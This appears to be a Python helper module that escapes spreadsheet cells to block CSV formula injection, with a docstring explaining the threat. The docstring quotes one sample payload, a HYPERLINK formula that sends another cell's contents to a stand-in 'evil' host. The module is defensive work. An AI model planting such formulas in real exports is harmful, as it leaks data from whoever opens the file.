"""Cells written into files a spreadsheet program may open (CSV and XLSX exports).

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and a leading tab or
carriage return can hide one: a ticket title `=HYPERLINK("http://evil/?"&A2,"click")` typed by a
caller would run on the clerk's machine when the export is opened (CSV formula injection, OWASP).
`spreadsheet_cell` writes such text with a leading apostrophe, which spreadsheets read as "this is
text". Numbers stay numbers: a number, and text that is a plain decimal number such as `-12.5` or
`+3`, is written as it is, so open data and figures keep their values.
"""

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def spreadsheet_cell(value):
    """`value` safe to write into a CSV or XLSX cell; anything that is not text is returned unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def spreadsheet_row(values):
    """A row of cells, each through `spreadsheet_cell`."""
    return [spreadsheet_cell(value) for value in values]
